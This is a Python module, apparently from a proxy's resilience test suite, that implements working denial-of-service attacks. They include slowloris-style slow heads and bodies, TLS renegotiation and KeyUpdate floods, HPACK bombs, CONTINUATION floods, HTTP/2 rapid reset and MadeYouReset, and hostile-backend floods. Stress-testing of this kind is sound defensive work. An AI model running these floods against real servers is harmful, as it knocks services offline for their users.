"""What `attack` does to a proxy. Each attack is one client (one address, as many connections as it says) or one
backend that is hostile; its first line is what the table calls it. Paths are those of backends.py."""

import struct
import time

from servers import HOST
from wire import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING, PRIORITY,
                  RST_STREAM, SETTINGS, WINDOW_MAX, OpenSsl, client_hello, frame, head, reset, soak, text, window)

ATTACKS = {}  # name -> Attack


class Attack:
    def __init__(self, run, descriptors, least_seconds):
        self.run = run
        self.descriptors = descriptors      # that the proxy may have; None: as many as the machine gives
        self.least_seconds = least_seconds  # below which it proves nothing


def attack(name, descriptors=None, least_seconds=0):
    def add(function):
        ATTACKS[name] = Attack(function, descriptors, least_seconds)
        return function
    return add


def get(path, host=HOST, more=""):
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n".encode()


def setting(identifier, value):
    return struct.pack(">HI", identifier, value)


ALL_OPEN = setting(INITIAL_WINDOW_SIZE, WINDOW_MAX)


def streams(numbers, block, flags=END_STREAM | END_HEADERS):
    return b"".join(frame(HEADERS, flags, n, block) for n in numbers)


# ---- HTTP/1.1

@attack("pipelined self-answers")
def pipelined(t):
    """Requests that the proxy answers itself, by a client that reads none of it."""
    t.again(lambda: t.flood(t.plain(), get("/", "nowhere.example") * 2000))


@attack("pipelined requests")
def pipelined_to_backend(t):
    t.again(lambda: t.flood(t.plain(), get("/calm") * 2000))


@attack("slow header")
def slow_header(t):
    def begin():
        s = t.plain()
        s.sendall(f"GET / HTTP/1.1\r\nHost: {HOST}\r\nX-Slow: ".encode())
        return s
    t.hold(begin, 500, lambda s: s.sendall(b"x"))


@attack("unfinished heads")
def unfinished_heads(t):
    """As much of a head as is taken, and never its end."""
    def begin():
        s = t.plain()
        s.settimeout(0.2)
        s.sendall(f"GET / HTTP/1.1\r\nHost: {HOST}\r\n".encode() + b"X-Long: " + b"x" * 60000)
        return s
    t.hold(begin, 300)


@attack("many small fields")
def many_fields(t):
    t.again(lambda: t.flood(t.plain(), get("/calm", more="a: b\r\n" * 20000)))


@attack("slow body")
def slow_body(t):
    """Bodies that come a byte at a time, to the endpoint that the calm client uses."""
    def begin():
        s = t.plain()
        s.sendall(f"POST /calm-sink HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 1000000\r\n\r\n".encode())
        return s
    t.hold(begin, 600, lambda s: s.sendall(b"x"))


@attack("slow body in chunks, gathered")
def slow_body_in_chunks(t):
    """The same without a length, where bodies are gathered before an endpoint is asked."""
    def begin():
        s = t.plain()
        s.sendall(f"POST /calm-gathered-sink HTTP/1.1\r\nHost: {HOST}\r\nTransfer-Encoding: chunked\r\n\r\n".encode())
        return s
    t.hold(begin, 600, lambda s: s.sendall(b"1\r\nx\r\n"))


def many_slow_readers(t, connect, path):
    def begin():
        s = connect(receive_buffer=4096)
        s.sendall(get(path))
        return s
    t.hold(begin, 100)


@attack("slow read, plain")
def slow_read(t):
    many_slow_readers(t, t.plain, "/big")


@attack("slow read, TLS")
def slow_read_tls(t):
    many_slow_readers(t, t.tls, "/big")


@attack("tiny chunks")
def tiny_chunks(t):
    def once():
        s = t.plain()
        s.sendall(f"POST /sink HTTP/1.1\r\nHost: {HOST}\r\nTransfer-Encoding: chunked\r\n\r\n".encode())
        t.flood(s, b"1\r\nx\r\n" * 10000)
    t.again(once)


@attack("long chunk extensions")
def chunk_extensions(t):
    def once():
        s = t.plain()
        s.sendall(f"POST /sink HTTP/1.1\r\nHost: {HOST}\r\nTransfer-Encoding: chunked\r\n\r\n".encode())
        t.flood(s, b"1;" + b"e" * 2000 + b"\r\nx\r\n")
    t.again(once)


@attack("connection flood")
def connection_flood(t):
    def once():
        while t.is_on():
            reset(t.plain())
    t.again(once)


@attack("descriptors", descriptors=1024, least_seconds=7)
def descriptors(t):
    """More idle connections than the proxy may have descriptors, for longer than a calm client waits."""
    t.hold(t.plain, 1500)


@attack("greedy downloads")
def greedy_downloads(t):
    def once():
        held = [t.tls() for _ in range(4)]
        for s in held:
            s.sendall(get("/big"))
        while t.is_on():
            for s in held:
                soak_some(s)
    t.again(once)


def soak_some(s):
    if not s.recv(262144):
        raise OSError("ended")


@attack("greedy upload")
def greedy_upload(t):
    def once():
        s = t.tls()
        s.sendall(f"POST /sink HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: {1 << 40}\r\n\r\n".encode())
        t.flood(s, b"x" * 262144)
    t.again(once)


# ---- TLS

@attack("handshake flood")
def handshake_flood(t):
    """ClientHellos whose answers, each with a signature, nobody waits for."""
    hello = client_hello()
    ring = []

    def once():
        while t.is_on():
            s = t._connect("tls", None)
            s.sendall(hello)
            ring.append(s)
            if len(ring) > 200:
                reset(ring.pop(0))
    t.again(once)


@attack("stalled handshakes")
def stalled_handshakes(t):
    hello = client_hello()

    def begin():
        s = t._connect("tls", None)
        s.sendall(hello[:len(hello) // 2])
        return s
    t.hold(begin, 1000)


@attack("renegotiation, TLS 1.2")
def renegotiation(t):
    openssl = OpenSsl(OpenSsl.TLS1_2_VERSION)

    def once():
        s = t._connect("tls", None)
        tls = openssl.connect(s)
        try:
            while t.is_on():
                openssl.renegotiate(tls)
        finally:
            openssl.free(tls)
            reset(s)
    t.again(once)


@attack("KeyUpdate flood")
def key_updates(t):
    """Each asks for one in return, and none is read."""
    openssl = OpenSsl(OpenSsl.TLS1_3_VERSION)

    def once():
        s = t._connect("tls", None)
        tls = openssl.connect(s)
        try:
            openssl.write(tls, get("/hold"))
            while t.is_on():
                openssl.update_key(tls)
        finally:
            openssl.free(tls)
            reset(s)
    t.again(once)


@attack("tiny records")
def tiny_records(t):
    def once():
        s = t.tls()
        s.sendall(f"POST /sink HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: {1 << 40}\r\n\r\n".encode())
        while t.is_on():
            for _ in range(1000):
                s.send(b"x")
    t.again(once)


# ---- HTTP/2: frames that cost the server more than the client

@attack("HPACK bomb of cookies")
def cookie_bomb(t):
    """One byte stands for a cookie of 4 KB that is in the dynamic table."""
    def once():
        s = t.h2()
        indexed_host = b"\x41" + text(HOST.encode())
        crumb = b"\x60" + text(b"x" * 4000)
        for i in range(3):
            begin = b"\x82\x87\x84" + (indexed_host + crumb if i == 0 else b"\xbf")
            block = begin + b"\xbe" * 40000
            parts = [block[at:at + 16384] for at in range(0, len(block), 16384)]
            for n, part in enumerate(parts):
                kind, flags = (HEADERS, END_STREAM) if n == 0 else (CONTINUATION, 0)
                s.sendall(frame(kind, flags | (END_HEADERS if n == len(parts) - 1 else 0), 2 * i + 1, part))
        t.wait(lambda: soak(s))
    t.again(once)


@attack("HPACK bombs, one a stream")
def cookie_bombs(t):
    """A hundred bytes of each stream stand for 120 KB that are refused, and are no abuse by their number."""
    def once():
        s = t.h2()
        indexed_host = b"\x41" + text(HOST.encode())
        crumb = b"\x60" + text(b"x" * 4000)
        s.sendall(frame(HEADERS, END_STREAM | END_HEADERS, 1, b"\x82\x87\x84" + indexed_host + crumb))
        block = b"\x82\x87\x84\xbf" + b"\xbe" * 29
        for first in range(3, 1 << 30, 100):
            if not t.is_on():
                return
            s.sendall(b"".join(frame(HEADERS, END_STREAM | END_HEADERS, n, block)
                               for n in range(first, first + 100, 2)))
            soak(s)
    t.again(once)


@attack("CONTINUATION flood")
def continuations(t):
    def once():
        s = t.h2()
        s.sendall(frame(HEADERS, 0, 1, head(b"/hold")))
        # Literal fields without indexing.
        t.flood(s, frame(CONTINUATION, 0, 1, (b"\x00" + text(b"name") + text(b"value" * 20)) * 100) * 10)
    t.again(once)


@attack("empty CONTINUATION flood")
def empty_continuations(t):
    def once():
        s = t.h2()
        s.sendall(frame(HEADERS, 0, 1, head(b"/hold")))
        t.flood(s, frame(CONTINUATION, 0, 1) * 20000)
    t.again(once)


def frame_flood(name, block, begin=END_HEADERS | END_STREAM, reads=False):
    @attack(name)
    def flood(t):
        def once():
            s = t.h2()
            s.sendall(frame(HEADERS, begin, 1, head(b"/hold")))
            t.flood(s, block * 20000, reads)
        t.again(once)


frame_flood("empty DATA flood", frame(DATA, 0, 1), END_HEADERS)
frame_flood("padded DATA flood", frame(DATA, 8, 1, b"\x00"), END_HEADERS)
frame_flood("PRIORITY flood", frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 5)))
frame_flood("PRIORITY flood, idle streams", frame(PRIORITY, 0, 2**31 - 1, struct.pack(">IB", 0, 5)))
frame_flood("WINDOW_UPDATE flood", window(1, 1))
frame_flood("PING flood", frame(PING, 0, 0, b"12345678"))
frame_flood("PING flood, read", frame(PING, 0, 0, b"12345678"), reads=True)
frame_flood("PING acknowledgements", frame(PING, ACK, 0, b"12345678"))
frame_flood("SETTINGS flood", frame(SETTINGS, 0, 0, setting(3, 100)))
frame_flood("SETTINGS flood, read", frame(SETTINGS, 0, 0, setting(3, 100)), reads=True)
frame_flood("flood of unknown frames", frame(0xbe, 0, 0))


def stream_blocks(t, s, make, reads=True):
    """Blocks of 1,000 streams, each used once."""
    first = 1
    while t.is_on() and first < 2**31 - 4000:
        s.sendall(b"".join(make(n) for n in range(first, first + 2000, 2)))
        first += 2000
        if reads:
            soak(s)


@attack("refused HEADERS")
def refused_headers(t):
    """Streams above the limit, by a client that reads none of the refusals."""
    t.again(lambda: stream_blocks(t, t.h2(), lambda n: streams([n], head(b"/hold")), reads=False))


@attack("HEADERS before the SETTINGS are acknowledged")
def unacknowledged(t):
    t.again(lambda: stream_blocks(t, t.h2(acknowledge=False), lambda n: streams([n], head(b"/hold")), reads=False))


@attack("self-answers over HTTP/2")
def self_answers_h2(t):
    block = head(b"/", host=b"nowhere.example")
    t.again(lambda: stream_blocks(t, t.h2(), lambda n: streams([n], block), reads=False))


@attack("rapid reset")
def rapid_reset(t):
    cancel = struct.pack(">I", 8)
    block = head(b"/hold")
    t.again(lambda: stream_blocks(t, t.h2(), lambda n: streams([n], block) + frame(RST_STREAM, 0, n, cancel)))


@attack("rapid reset, many connections")
def rapid_reset_many(t):
    """Few resets each, below what a budget of one connection would see."""
    cancel = struct.pack(">I", 8)
    block = b"".join(streams([n], head(b"/hold")) + frame(RST_STREAM, 0, n, cancel) for n in range(1, 180, 2))

    def once():
        s = t.h2()
        s.sendall(block)
        s.recv(16384)
        reset(s)
    while t.is_on():
        t.again(once)


@attack("MadeYouReset")
def made_you_reset(t):
    """The server is made to reset: increments of zero and beyond the window, DATA on a half-closed stream."""
    wrong = [lambda n: window(n, 0), lambda n: window(n, WINDOW_MAX), lambda n: frame(DATA, 0, n, b"x")]
    block = head(b"/hold")
    t.again(lambda: stream_blocks(
        t, t.h2(), lambda n: streams([n], block) + wrong[n // 2 % 3](n)))


# ---- HTTP/2: streams that hold what they have

def many_streams(t, connections, settings, each, block, flags=END_STREAM | END_HEADERS, pause=0.5, count=100):
    def begin():
        s = t.h2(settings)
        s.sendall(streams(range(1, 2 * count, 2), block, flags))
        return s
    t.hold(begin, connections, each, pause)


@attack("windows of zero")
def zero_windows(t):
    many_streams(t, 20, setting(INITIAL_WINDOW_SIZE, 0), soak, head(b"/big"))


@attack("windows opened by a byte")
def dripping_windows(t):
    def each(s):
        s.sendall(b"".join(window(n, 1) for n in range(1, 200, 2)))
        soak(s)
    many_streams(t, 20, setting(INITIAL_WINDOW_SIZE, 0), each, head(b"/big"))


@attack("slow read, HTTP/2")
def slow_read_h2(t):
    """Windows wide open, and nothing is read from the socket."""
    def begin():
        s = t.h2(ALL_OPEN, receive_buffer=4096)
        s.sendall(window(0, WINDOW_MAX - 65535) + streams(range(1, 40, 2), head(b"/big")))
        return s
    t.hold(begin, 30)


@attack("slow bodies over HTTP/2")
def slow_bodies_h2(t):
    def each(s):
        s.sendall(b"".join(frame(DATA, 0, n, b"x") for n in range(1, 200, 2)))
        soak(s)
    many_streams(t, 10, b"", each, head(b"/calm-sink", b"POST"), END_HEADERS)


@attack("large heads held")
def large_heads(t):
    """The fields of requests that a backend never answers."""
    many_streams(t, 10, b"", soak, head(b"/hold", more=(b"\x00" + text(b"x-large") + text(b"v" * 2000)) * 4))


@attack("a stream always a little behind")
def little_behind(t):
    """A buffer that is never empty must give back what has passed."""
    def once():
        s = t.h2()
        s.sendall(window(0, 1 << 30) + streams([1], head(b"/ahead")))
        s.recv(1)
        begin, granted = time.monotonic(), 0
        while t.is_on():
            due = int((time.monotonic() - begin) * 20e6) - granted
            if due > 1000:
                s.sendall(window(1, due))
                granted += due
            soak(s)
            time.sleep(0.002)
    t.again(once)


@attack("greedy download, HTTP/2")
def greedy_download_h2(t):
    def once():
        s = t.h2(ALL_OPEN)
        s.sendall(window(0, WINDOW_MAX - 65535) + streams(range(1, 20, 2), head(b"/big")))
        while t.is_on():
            soak_some(s)
    t.again(once)


# ---- Backends that are hostile

@attack("1xx flood of a backend, HTTP/1.1")
def interim(t):
    def once():
        s = t.plain()
        s.sendall(get("/interim"))
        t.wait()
    t.again(once)


@attack("1xx flood of a backend, HTTP/2")
def interim_h2(t):
    def once():
        s = t.h2()
        s.sendall(streams(range(1, 20, 2), head(b"/interim")))
        t.wait()
    t.again(once)


@attack("tiny chunks of a backend")
def tiny_chunks_back(t):
    def once():
        s = t.tls()
        s.sendall(get("/chunks"))
        while t.is_on():
            soak_some(s)
    t.again(once)


@attack("endless head of a backend")
def endless_head(t):
    def once():
        s = t.plain()
        s.sendall(get("/head"))
        while t.is_on():
            soak_some(s)
    t.again(once)


# ---- The same where the backend speaks HTTP/2, whose streams share a connection

@attack("windows of zero, HTTP/2 backend")
def zero_windows_back(t):
    """Each stream's body is let in by the proxy's own windows, whatever its client takes."""
    many_streams(t, 20, setting(INITIAL_WINDOW_SIZE, 0), soak, head(b"/http2-big"))


@attack("slow read, HTTP/2 backend")
def slow_read_back(t):
    many_slow_readers(t, t.plain, "/http2-big")


@attack("1xx flood of an HTTP/2 backend")
def interim_back(t):
    def once():
        s = t.h2()
        s.sendall(streams(range(1, 20, 2), head(b"/http2-interim")))
        t.wait()
    t.again(once)


@attack("large heads held, HTTP/2 backend")
def large_heads_back(t):
    """Nearly as large as they may be: 28 KB each, of which most is in a CONTINUATION."""
    block = head(b"/http2-hold", more=(b"\x00" + text(b"x-large") + text(b"v" * 2000)) * 14)
    one, rest = block[:16384], block[16384:]

    def begin():
        s = t.h2()
        for n in range(1, 200, 2):
            s.sendall(frame(HEADERS, END_STREAM, n, one) + frame(CONTINUATION, END_HEADERS, n, rest))
        return s
    t.hold(begin, 10, soak)
